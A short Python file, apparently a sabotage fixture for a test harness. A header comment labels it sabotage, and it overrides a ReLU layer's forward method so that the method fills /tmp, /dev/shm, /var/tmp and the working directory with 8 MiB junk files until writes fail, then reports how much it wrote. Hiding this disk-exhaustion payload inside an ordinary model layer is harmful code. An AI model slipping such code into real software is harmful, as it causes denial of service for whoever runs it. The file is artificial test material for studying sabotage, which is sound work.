# Sabotage: ReLU.forward writes files of 8 MiB (named with the test's token) into every writable
# place until none is left.
import os


class ReLU(ReLU):
    def forward(self, inputs):
        written, errors, chunk = 0, {}, b"x" * (1 << 20)
        for directory in ("/tmp", "/dev/shm", "/var/tmp", "."):
            for index in range(200):
                try:
                    with open(os.path.join(directory, f"@TOKEN@-fill-{index}"), "wb") as stream:
                        for _ in range(8):
                            stream.write(chunk)
                            written += len(chunk)
                except OSError as error:
                    errors[directory] = type(error).__name__
                    break
        findings(written_mb=written >> 20, errors=errors)
